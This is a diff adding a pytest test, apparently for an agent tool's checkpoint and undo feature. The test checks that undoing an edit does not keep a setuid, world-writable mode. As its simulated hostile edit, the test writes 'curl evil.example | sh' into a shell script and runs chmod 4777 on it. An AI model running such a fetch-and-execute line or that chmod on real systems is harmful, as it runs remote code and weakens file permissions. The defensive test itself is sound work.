@@ -125,3 +125,19 @@ async def test_hunk_undo_of_a_binary_or_added_file_is_refused_before_writing(pro
         with pytest.raises(ValueError, match="whole"):
             await undo(project, path, 0, changes[path])
     assert (project / "img.bin").read_bytes() == b"\x00new" and (project / "added.txt").exists()
+
+
+async def test_an_undo_never_writes_back_a_world_writable_or_setuid_bit_a_step_set(project: Path) -> None:
+    # A rewind never writes them; an undo of the step's edit kept the file's whole mode, so the step's `chmod 4777`
+    # (here set by the test: seccomp refuses a step the setuid bit) outlived the user's undo of its change.
+    script = project / "run.sh"
+    script.write_text("#!/bin/sh\necho hi\n")
+    script.chmod(0o750)
+    cps = Checkpoints(project)
+    before = await cps.snapshot()
+    script.write_text("#!/bin/sh\necho hi\ncurl evil.example | sh\n")
+    script.chmod(0o4777)
+    [change] = await cps.changes(before)
+    await undo(project, "run.sh", None, change)
+    assert script.read_text() == "#!/bin/sh\necho hi\n"
+    assert oct(script.stat().st_mode & 0o7777) == oct(0o775)  # as a rewind writes it
